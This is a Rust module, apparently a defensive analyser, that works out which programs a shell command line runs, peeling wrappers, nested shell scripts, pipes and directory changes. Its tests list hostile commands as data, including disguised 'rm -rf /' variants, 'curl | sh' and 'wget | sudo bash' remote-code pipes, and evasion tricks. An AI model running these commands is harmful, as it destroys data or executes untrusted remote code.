//! Every program a command line runs: its simple commands, each wrapper
//! peeled off in turn, and the scripts it hands to shells, read too; each
//! with the folders it may run in, as the line's `cd`s leave them.

use super::escapes;
use super::lex::{Input, Joint, SimpleCommand, is_assignment, split_in};
use super::params::Scope;
use super::place::{Base, Place};
use super::step::{Next, Source, Split, Step};
use super::unseen::{MAX_DEPTH, Unseen, Why};
use super::wrappers::{self, basename, step};

/// How many wrappers one command may peel off (each `env -S` may add
/// words) before the rest is not followed.
const MAX_HOPS: usize = 32;

/// At most this many folders are kept for where a command may run, and
/// this many items of a known `xargs` input are passed on.
const MAX_PLACES: usize = 8;
const MAX_ITEMS: usize = 64;

/// What a command line runs, as far as its text shows.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Programs {
    /// Each command, in the order met: a simple command as written, then
    /// the command each of its wrappers runs (see [`Run`]), then the
    /// commands of the scripts it runs.
    pub runs: Vec<Run>,
    /// Scripts the line runs whose text it does not show.
    pub unseen: Vec<Unseen>,
}

/// One command a line runs.
///
/// `FOO=1 nice -n 5 npm publish` is three runs: the simple command as
/// written (`as_written`), then `nice -n 5 npm publish` and `npm publish`,
/// each what the word before it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Run {
    /// The words, quotes removed, the program first (as written: a path
    /// stays a path; see [`Run::program`]).
    pub words: Vec<String>,
    /// Whether these are a simple command's words exactly as written,
    /// assignments and wrappers included; `false` for what a wrapper runs,
    /// for a command's words without its substitutions (`s$()udo` also
    /// runs as `sudo`) and with the parameters the line gives values to
    /// expanded (`X=/; rm -rf $X` also runs as `rm -rf /`).
    pub as_written: bool,
    /// The folders it may run in: where the line starts, or where the
    /// line's `cd`, `pushd` and wrappers (`env -C DIR`) took it. More than
    /// one where a `cd` may not have happened (`cd x; rm ...` runs `rm`
    /// in `x`, or where it was if there is no `x`).
    pub cwd: Vec<Place>,
    /// Operands it gets that its words do not spell out.
    pub operands: Option<Operands>,
}

/// Operands a wrapper adds to the command it runs, where the line does not
/// show them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Operands {
    /// What `find` finds under these places (`find / -exec rm -rf {} +`,
    /// `find ~ | xargs rm -rf`): each of them, or anything below it.
    Found(Vec<Place>),
    /// Items read from input the line does not show (`cat list | xargs rm
    /// -rf`): what gives them.
    Unseen(String),
}

impl Run {
    /// The program's name: the first word without its folder
    /// (`/usr/bin/npm` is `npm`).
    pub fn program(&self) -> &str {
        self.words.first().map_or("", |w| basename(w))
    }

    /// The words joined by single spaces.
    pub fn text(&self) -> String {
        self.words.join(" ")
    }
}

/// Every program a command line runs, read without running anything.
///
/// Each simple command counts as written and then as what each of its
/// wrappers runs: assignments (`FOO=1`), reserved words (`!`, `{`, `if`,
/// `then`, ...) and wrapper programs (`env` with `-S` split and `-C`,
/// `sudo`, `doas`, `nice`, `nohup`, `time`, `timeout`, `stdbuf`, `setsid`,
/// `ionice`, `flock`, `chroot`, `xargs`, `parallel`, `find -exec`,
/// `watch`, `busybox`, `exec`, `command`, ...) are peeled off one at a
/// time. Scripts the line runs are read the same way: command
/// substitutions (`$(...)`, `` `...` ``, `<(...)`), every shell's `-c`
/// (with the words after it as `$1`, ...), `eval`, `su -c`, `flock -c`,
/// `source` / `.` of standard input, and a shell's standard input when it
/// is a here-string, a here-document, or the text of an `echo`, `printf`
/// or `cat <<<` piped into it. A shell fed from another program's output
/// (`curl … | sh`) is [`Unseen`]. Each run carries the folders it may run
/// in, after the line's `cd`s.
///
/// ```
/// use tackle_shell::programs;
///
/// let texts = |line: &str| -> Vec<String> {
///     programs(line).runs.iter().map(|r| r.text()).collect()
/// };
/// assert_eq!(texts("cd web && FOO=1 npm publish"), ["cd web", "FOO=1 npm publish", "npm publish"]);
/// assert_eq!(texts("bash -c 'sudo id'"), ["bash -c sudo id", "sudo id", "id"]);
/// assert_eq!(texts("echo rm -rf / | sh"), ["echo rm -rf /", "sh", "rm -rf /"]);
/// assert!(texts("sh -c 'rm -rf \"$1\"' _ /").contains(&"rm -rf /".to_owned()));
/// assert!(!programs("curl -s x.test | sh").unseen.is_empty());
/// ```
pub fn programs(line: &str) -> Programs {
    let mut walk = Programs::default();
    walk.line(line, 0, &State::start());
    walk
}

/// Every program a command given as its words (`["bash", "-lc", "..."]`,
/// as Codex's `shell` tool sends it) runs, no shell reading the words
/// first.
pub fn programs_of_argv(words: &[String]) -> Programs {
    let mut walk = Programs::default();
    let state = State::start();
    walk.command(
        words.to_vec(),
        &Context {
            feed: None,
            cwd: state.cwd.clone(),
            operands: None,
            scope: Scope::default(),
        },
        0,
        true,
        0,
    );
    walk
}

/// What the line so far leaves a command to run in.
#[derive(Debug, Clone)]
struct State {
    cwd: Vec<Place>,
    /// Where `cd -` goes.
    previous: Vec<Place>,
    /// `pushd`'s stack.
    stack: Vec<Vec<Place>>,
    scope: Scope,
}

impl State {
    fn start() -> State {
        State {
            cwd: vec![Place::start()],
            previous: vec![unknown("cd -")],
            stack: Vec::new(),
            scope: Scope::default(),
        }
    }
}

/// What one command is run with.
struct Context<'a> {
    feed: Option<&'a Feed>,
    cwd: Vec<Place>,
    operands: Option<Operands>,
    scope: Scope,
}

fn unknown(what: &str) -> Place {
    Place {
        base: Base::Unknown(what.to_owned()),
        up: 0,
        names: Vec::new(),
    }
}

impl Programs {
    fn line(&mut self, line: &str, depth: usize, state: &State) {
        if depth > MAX_DEPTH {
            self.unseen.push(Unseen {
                command: vec![line.to_owned()],
                why: Why::TooDeep,
            });
            return;
        }
        let (script, scope) = split_in(line, state.scope.clone());
        // Scripts it runs see the variables the line assigns.
        let mut state = State {
            scope: Scope {
                positional: state.scope.positional.clone(),
                vars: scope.vars,
            },
            ..state.clone()
        };
        let mut moved: Option<State> = None;
        for command in &script.commands {
            if let Some(after) = moved.take() {
                state = match command.joint {
                    Joint::And => after,
                    // The `cd` ran in a subshell, or failed.
                    Joint::Or | Joint::Pipe | Joint::Background => state,
                    // It may have failed.
                    Joint::Then => State {
                        cwd: union(&after.cwd, &state.cwd),
                        ..after
                    },
                };
            }
            let feed = Feed::of(command, &script.commands);
            let context = Context {
                feed: feed.as_ref(),
                cwd: state.cwd.clone(),
                operands: None,
                scope: state.scope.clone(),
            };
            self.command(command.words.clone(), &context, depth, true, 0);
            if command.bare != command.words {
                self.command(command.bare.clone(), &context, depth, false, 0);
            }
            if command.expanded != command.words {
                self.command(command.expanded.clone(), &context, depth, false, 0);
            }
            let mut after = moves(&command.words, &state);
            if command.expanded != command.words
                && let Some(expanded) = moves(&command.expanded, &state)
            {
                after = Some(match after {
                    Some(written) => State {
                        cwd: union(&written.cwd, &expanded.cwd),
                        ..expanded
                    },
                    None => expanded,
                });
            }
            moved = after;
        }
        for inner in &script.substitutions {
            self.line(inner, depth + 1, &state);
        }
    }

    fn command(
        &mut self,
        words: Vec<String>,
        context: &Context<'_>,
        depth: usize,
        as_written: bool,
        hops: usize,
    ) {
        if words.is_empty() {
            return;
        }
        self.runs.push(Run {
            words: words.clone(),
            as_written,
            cwd: context.cwd.clone(),
            operands: context.operands.clone(),
        });
        if hops > MAX_HOPS {
            return;
        }
        match step(&words) {
            Step::Next(nexts) => {
                let mut scope = context.scope.clone();
                if let Some(first) = words.first()
                    && is_assignment(first)
                    && !first.contains(['$', '`'])
                    && let Some((name, value)) = first.split_once('=')
                {
                    // `X=/ sh -c 'rm -rf $X'`: the script sees it.
                    scope.vars.insert(name.to_owned(), value.to_owned());
                }
                for next in nexts {
                    self.next(next, context, &scope, depth, hops);
                }
            }
            Step::Script { text, args } => {
                let mut state = State::start();
                state.cwd = context.cwd.clone();
                state.scope.vars = context.scope.vars.clone();
                state.scope.positional = args;
                self.line(&text, depth + 1, &state);
            }
            Step::Stdin { explicit } => match context.feed {
                Some(Feed::Text(text)) => {
                    let mut state = State::start();
                    state.cwd = context.cwd.clone();
                    state.scope.vars = context.scope.vars.clone();
                    self.line(text, depth + 1, &state);
                }
                Some(Feed::From(program) | Feed::Found(program, _)) => self.unseen.push(Unseen {
                    command: words,
                    why: Why::Piped(program.clone()),
                }),
                None if explicit => self.unseen.push(Unseen {
                    command: words,
                    why: Why::Stdin,
                }),
                None => {}
            },
            Step::Unseen(why) => self.unseen.push(Unseen {
                command: words,
                why,
            }),
            Step::Done => {}
        }
    }

    /// The command a wrapper runs, in the folder and with the operands it
    /// gives it.
    fn next(
        &mut self,
        next: Next,
        context: &Context<'_>,
        scope: &Scope,
        depth: usize,
        hops: usize,
    ) {
        let cwd = match &next.chdir {
            Some(folder) => {
                let places = Place::parse(folder, &context.cwd);
                if places.is_empty() {
                    context.cwd.clone()
                } else {
                    places
                }
            }
            None => context.cwd.clone(),
        };
        let mut inner = Context {
            feed: context.feed,
            cwd,
            operands: context.operands.clone(),
            scope: scope.clone(),
        };
        let Some(source) = next.operands else {
            return self.command(next.words, &inner, depth, false, hops + 1);
        };
        // The wrapper reads the input: the command it runs does not.
        inner.feed = None;
        match source {
            Source::Found(paths) => {
                let places = paths
                    .iter()
                    .flat_map(|p| Place::parse(p, &context.cwd))
                    .collect();
                inner.operands = Some(Operands::Found(places));
                self.command(next.words, &inner, depth, false, hops + 1);
            }
            Source::File(file) => {
                inner.operands = Some(Operands::Unseen(format!("the file `{file}`")));
                self.command(next.words, &inner, depth, false, hops + 1);
            }
            Source::Stdin { replace, split } => match context.feed {
                Some(Feed::Text(text)) => {
                    for words in with_items(&next.words, &items(text, &split), replace.as_deref()) {
                        self.command(words, &inner, depth, false, hops + 1);
                    }
                }
                Some(Feed::Found(_, paths)) => {
                    let places = paths
                        .iter()
                        .flat_map(|p| Place::parse(p, &context.cwd))
                        .collect();
                    inner.operands = Some(Operands::Found(places));
                    self.command(next.words, &inner, depth, false, hops + 1);
                }
                Some(Feed::From(program)) => {
                    inner.operands = Some(Operands::Unseen(format!("the output of `{program}`")));
                    self.command(next.words, &inner, depth, false, hops + 1);
                }
                None => {
                    inner.operands = Some(Operands::Unseen("standard input".into()));
                    self.command(next.words, &inner, depth, false, hops + 1);
                }
            },
        }
    }
}

/// `a` and then what of `b` is not in it, at most [`MAX_PLACES`].
fn union(a: &[Place], b: &[Place]) -> Vec<Place> {
    let mut all = a.to_vec();
    for place in b {
        if !all.contains(place) {
            all.push(place.clone());
        }
    }
    all.truncate(MAX_PLACES);
    all
}

/// Where a `cd`, `pushd` or `popd` (peeled of `builtin`, `command`, ...)
/// leaves the line; `None` for any other command.
fn moves(words: &[String], state: &State) -> Option<State> {
    let mut words = words.to_vec();
    for _ in 0..MAX_HOPS {
        let program = words.first().map(|w| basename(w))?;
        if matches!(program, "cd" | "chdir" | "pushd" | "popd") {
            break;
        }
        match step(&words) {
            Step::Next(mut nexts) if nexts.len() == 1 && nexts[0].chdir.is_none() => {
                words = nexts.remove(0).words;
            }
            _ => return None,
        }
    }
    let (program, args) = words.split_first()?;
    let operands: Vec<&String> = args
        .iter()
        .skip_while(|a| {
            a.len() > 1 && a.starts_with('-') && !a[1..].starts_with(|c: char| c.is_ascii_digit())
        })
        .collect();
    let home = || Place::parse("~", &[]);
    let mut after = state.clone();
    after.previous = state.cwd.clone();
    after.cwd = match (basename(program), operands.first()) {
        ("popd", _) => after.stack.pop().unwrap_or_else(|| vec![unknown("popd")]),
        ("pushd", None) => vec![unknown("pushd")],
        ("pushd", Some(n)) if n.starts_with(['+', '-']) => vec![unknown("pushd")],
        (_, None) => home(),
        (_, Some(dash)) if dash.as_str() == "-" => state.previous.clone(),
        (_, Some(folder)) => {
            let mut places = Place::parse(folder, &state.cwd);
            // `cd $X` with `X` empty is `cd`: home.
            if Place::may_vanish(folder) {
                places = union(&places, &home());
            }
            places
        }
    };
    if basename(program) == "pushd" {
        after.stack.push(state.cwd.clone());
    }
    after.cwd.truncate(MAX_PLACES);
    Some(after)
}

/// The items of `xargs`'s input.
fn items(text: &str, split: &Split) -> Vec<String> {
    let items: Vec<String> = match split {
        Split::Blanks => super::split(text)
            .commands
            .into_iter()
            .flat_map(|c| c.words)
            .collect(),
        Split::Lines => text.lines().map(str::to_owned).collect(),
        Split::At(c) => text.split(*c).map(str::to_owned).collect(),
    };
    items
        .into_iter()
        .filter(|item| !item.is_empty())
        .take(MAX_ITEMS)
        .collect()
}

/// The commands `xargs` runs with these items: each in place of `replace`,
/// or all after the words.
fn with_items(words: &[String], items: &[String], replace: Option<&str>) -> Vec<Vec<String>> {
    match replace {
        Some(replace) if !replace.is_empty() => items
            .iter()
            .map(|item| words.iter().map(|w| w.replace(replace, item)).collect())
            .collect(),
        _ => {
            let mut all = words.to_vec();
            all.extend(items.iter().cloned());
            vec![all]
        }
    }
}

/// What a command's standard input holds, as far as the line shows.
#[derive(Debug)]
enum Feed {
    /// This text.
    Text(String),
    /// The output of this program, unknown.
    From(String),
    /// The paths `find` (this program) finds under these.
    Found(String, Vec<String>),
}

impl Feed {
    fn of(command: &SimpleCommand, commands: &[SimpleCommand]) -> Option<Feed> {
        match &command.input {
            Input::Inherited => None,
            Input::Text(text) => Some(Feed::Text(text.clone())),
            Input::Pipe(from) => Some(
                commands
                    .get(*from)
                    .map_or_else(|| Feed::From(String::new()), Feed::output),
            ),
        }
    }

    /// What `upstream` prints, when its words say: `echo`'s and `printf`'s
    /// text (escapes decoded, as `echo -e` and `printf` decode them), a
    /// `cat` of a here-string or here-document, the paths `find` finds.
    fn output(upstream: &SimpleCommand) -> Feed {
        let mut words = upstream.expanded.clone();
        for _ in 0..MAX_HOPS {
            match step(&words) {
                Step::Next(mut next) if next.len() == 1 && !next[0].words.is_empty() => {
                    words = next.remove(0).words;
                }
                _ => break,
            }
        }
        let Some((program, args)) = words.split_first() else {
            return Feed::From(String::new());
        };
        match basename(program) {
            "echo" => {
                let text = args
                    .iter()
                    .skip_while(|a| {
                        a.len() > 1
                            && a.starts_with('-')
                            && a[1..].chars().all(|c| "neE".contains(c))
                    })
                    .map(|a| escapes::decode(a))
                    .collect::<Vec<_>>()
                    .join(" ");
                Feed::Text(text)
            }
            "printf" => Feed::Text(
                args.iter()
                    .map(|a| escapes::decode(a))
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            "cat" if args.is_empty() => match &upstream.input {
                Input::Text(text) => Feed::Text(text.clone()),
                _ => Feed::From(program.clone()),
            },
            "find" => Feed::Found(program.clone(), wrappers::find_paths(args)),
            _ => Feed::From(program.clone()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(line: &str) -> Vec<String> {
        programs(line).runs.iter().map(Run::text).collect()
    }

    fn runs_text(line: &str, text: &str) -> bool {
        texts(line).iter().any(|t| t == text)
    }

    #[test]
    fn wrappers_are_peeled_one_at_a_time() {
        assert_eq!(
            texts("FOO=1 sudo -u x nice npm publish"),
            [
                "FOO=1 sudo -u x nice npm publish",
                "sudo -u x nice npm publish",
                "nice npm publish",
                "npm publish",
            ]
        );
        let runs = programs("FOO=1 npm test").runs;
        assert!(runs[0].as_written && !runs[1].as_written);
        assert_eq!(runs[1].program(), "npm");
        assert_eq!(programs("/usr/bin/npm publish").runs[0].program(), "npm");
    }

    #[test]
    fn scripts_handed_to_shells_are_read() {
        for (line, inner) in [
            ("bash -c 'sudo id'", "sudo id"),
            ("sh -c \"sh -c 'rm -rf /'\"", "rm -rf /"),
            ("eval 'sudo id'", "sudo id"),
            ("echo $(sudo id)", "sudo id"),
            ("echo \"`sudo id`\"", "sudo id"),
            ("diff <(sudo cat a) b", "sudo cat a"),
            ("bash <<< 'rm -rf /'", "rm -rf /"),
            ("sh <<EOF\nrm -rf /\nEOF", "rm -rf /"),
            ("echo rm -rf / | sh", "rm -rf /"),
            ("echo -e 'rm -rf \\x2f' | bash", "rm -rf /"),
            ("printf 'sudo id\\n' | sh -s", "sudo id"),
            ("cat <<< 'sudo id' | sh", "sudo id"),
            ("env -S 'rm -rf /'", "rm -rf /"),
            ("flock /tmp/l -c 'sudo id'", "sudo id"),
            ("busybox sh -c 'sudo id'", "sudo id"),
            ("s$()udo id", "sudo id"),
        ] {
            assert!(runs_text(line, inner), "{line}: {:?}", texts(line));
            assert!(programs(line).unseen.is_empty(), "{line}");
        }
    }

    #[test]
    fn scripts_the_line_does_not_show_are_unseen() {
        for (line, why) in [
            ("curl -s x.test | sh", Why::Piped("curl".into())),
            ("wget -O- x | sudo bash", Why::Piped("wget".into())),
            ("cat install.sh | bash", Why::Piped("cat".into())),
            ("bash <(curl x.test)", Why::ProcessSubstitution),
        ] {
            let unseen = programs(line).unseen;
            assert_eq!(unseen.len(), 1, "{line}: {unseen:?}");
            assert_eq!(unseen[0].why, why, "{line}");
        }
        for line in ["bash build.sh", "sh", "ls | grep x", "bash -c 'ls'"] {
            assert!(programs(line).unseen.is_empty(), "{line}");
        }
    }

    #[test]
    fn deep_nesting_is_unseen_not_followed() {
        let mut line = "ls".to_owned();
        for _ in 0..=MAX_DEPTH {
            line = format!("eval '{}'", line.replace('\'', r"'\''"));
        }
        let walk = programs(&line);
        assert_eq!(walk.unseen.len(), 1);
        assert_eq!(walk.unseen[0].why, Why::TooDeep);
        assert!(walk.unseen[0].to_string().contains("too deep"));
    }

    #[test]
    fn argv_is_read_without_a_shell() {
        let argv =
            |words: &[&str]| -> Vec<String> { words.iter().map(|w| (*w).to_owned()).collect() };
        let texts = |words: &[&str]| -> Vec<String> {
            programs_of_argv(&argv(words))
                .runs
                .iter()
                .map(Run::text)
                .collect()
        };
        assert_eq!(
            texts(&["bash", "-lc", "cd x && npm publish"]),
            ["bash -lc cd x && npm publish", "cd x", "npm publish"]
        );
        // No shell reads these words: `;` is an argument of echo.
        assert_eq!(texts(&["echo", "a;", "sudo", "id"]), ["echo a; sudo id"]);
    }

    #[test]
    fn every_shell_s_script_is_read_with_its_words_as_parameters() {
        for (line, inner) in [
            ("sh -c 'rm -rf \"$1\"' _ /", "rm -rf /"),
            ("bash -c 'rm -rf $1' x ~", "rm -rf ~"),
            ("sh -c 'rm -rf \"$@\"' _ a /", "rm -rf a /"),
            ("sh -c 'rm -rf $*' _ /", "rm -rf /"),
            ("sh -c 'rm -rf \"${1}\"' _ /", "rm -rf /"),
            ("sh -c 'rm -rf ${2:-/}' _ a", "rm -rf /"),
            ("sh -c '$0 -rf /' rm", "rm -rf /"),
            ("sh -c 'rm -rf $1' _ '/ x'", "rm -rf / x"),
            ("zsh -c 'sudo id'", "sudo id"),
            ("fish -c 'sudo id'", "sudo id"),
            ("csh -fc 'sudo id'", "sudo id"),
            ("ksh93 -c 'sudo id'", "sudo id"),
            ("pwsh -NoProfile -Command rm -rf /", "rm -rf /"),
            ("bash -eo pipefail -c 'sudo id'", "sudo id"),
            ("X=/; rm -rf $X", "rm -rf /"),
            ("export X=/ && rm -rf \"$X\"", "rm -rf /"),
            ("X=/ sh -c 'rm -rf $X'", "rm -rf /"),
            ("echo 'rm -rf /' | source /dev/stdin", "rm -rf /"),
            (". /dev/stdin <<< 'sudo id'", "sudo id"),
            ("watch -n 1 'sudo id'", "sudo id"),
            ("find . -exec sudo id ;", "sudo id"),
        ] {
            assert!(runs_text(line, inner), "{line}: {:?}", texts(line));
        }
        // Single quotes keep `$1` from the outer line: nothing is known there.
        assert!(
            !runs_text("rm -rf $1", "rm -rf "),
            "{:?}",
            texts("rm -rf $1")
        );
        // `X=/ cmd` sets X for cmd only, not for the line's later words.
        assert!(!runs_text("X=/ true; rm -rf $X", "rm -rf /"));
    }

    #[test]
    fn xargs_gets_the_items_it_is_fed() {
        for (line, inner) in [
            ("echo / | xargs rm -rf", "rm -rf /"),
            ("printf '/\\0' | xargs -0 rm -rf", "rm -rf /"),
            ("echo / ~ | xargs -n1 rm -rf", "rm -rf / ~"),
            ("echo / | xargs -I{} rm -rf {}", "rm -rf /"),
            ("parallel rm -rf ::: /", "rm -rf /"),
        ] {
            assert!(runs_text(line, inner), "{line}: {:?}", texts(line));
        }
        let operands = |line: &str| -> Vec<Option<Operands>> {
            programs(line)
                .runs
                .iter()
                .filter(|r| r.program() == "rm")
                .map(|r| r.operands.clone())
                .collect()
        };
        let found = |word: &str| Some(Operands::Found(Place::parse(word, &[Place::start()])));
        assert_eq!(operands("find / | xargs rm -rf"), [found("/")]);
        assert_eq!(operands("find ~ -exec rm -rf {} +"), [found("~")]);
        assert_eq!(operands("find . -name x -exec rm -rf {} +"), [found(".")]);
        assert_eq!(
            operands("cat list | xargs rm -rf"),
            [Some(Operands::Unseen("the output of `cat`".into()))]
        );
        assert_eq!(
            operands("xargs -a list rm -rf"),
            [Some(Operands::Unseen("the file `list`".into()))]
        );
        assert_eq!(operands("rm -rf x"), [None]);
    }

    #[test]
    fn cd_moves_the_commands_after_it() {
        let cwd = |line: &str| -> Vec<String> {
            let runs = programs(line).runs;
            let last = runs.iter().rfind(|r| r.program() == "rm").expect("an rm");
            let mut places: Vec<String> = last.cwd.iter().map(Place::to_string).collect();
            places.sort();
            places
        };
        for (line, places) in [
            ("rm -rf *", vec!["."]),
            ("cd / && rm -rf *", vec!["/"]),
            ("cd /; rm -rf *", vec![".", "/"]),
            ("cd / || rm -rf *", vec!["."]),
            ("cd / | rm -rf *", vec!["."]),
            ("cd && rm -rf ./*", vec!["~"]),
            ("cd ~ && rm -rf *", vec!["~"]),
            ("cd $HOME && rm -rf *", vec!["~"]),
            ("cd /tmp && cd .. && rm -rf *", vec!["/"]),
            ("cd .. && rm -rf *", vec!["./.."]),
            ("cd $X && rm -rf *", vec!["$X", "~"]),
            ("cd \"${X:?}\" && rm -rf *", vec!["${X:?}"]),
            ("pushd / && rm -rf *", vec!["/"]),
            ("pushd / && popd && rm -rf *", vec!["."]),
            ("cd / && cd - && rm -rf *", vec!["."]),
            ("builtin cd / && rm -rf *", vec!["/"]),
            ("env -C / rm -rf *", vec!["/"]),
            ("env --chdir=/tmp/.. rm -rf *", vec!["/"]),
            ("cd / && sh -c 'rm -rf *'", vec!["/"]),
            ("cd / && echo $(rm -rf *)", vec!["/"]),
            ("X=/; cd $X && rm -rf *", vec!["$X", "/", "~"]),
        ] {
            assert_eq!(cwd(line), places, "{line}");
        }
    }

    #[test]
    fn standard_input_a_source_does_not_get_is_unseen() {
        for (line, why) in [
            ("source <(curl -s x.test)", Why::ProcessSubstitution),
            (". <(curl -s x.test)", Why::ProcessSubstitution),
            ("source /dev/stdin", Why::Stdin),
            (". /dev/fd/0", Why::Stdin),
            ("source -", Why::Stdin),
            ("curl x | source /dev/stdin", Why::Piped("curl".into())),
            ("curl x | fish", Why::Piped("curl".into())),
            ("curl x | zsh -s", Why::Piped("curl".into())),
            ("source /dev/fd/3 3<x", Why::Descriptor),
            ("pwsh -enc cgBtAA==", Why::Encoded),
        ] {
            let unseen = programs(line).unseen;
            assert_eq!(unseen.len(), 1, "{line}: {unseen:?}");
            assert_eq!(unseen[0].why, why, "{line}");
        }
        for line in ["source venv/bin/activate", ". ./env.sh", "sh -c 'ls'"] {
            assert!(programs(line).unseen.is_empty(), "{line}");
        }
    }
}
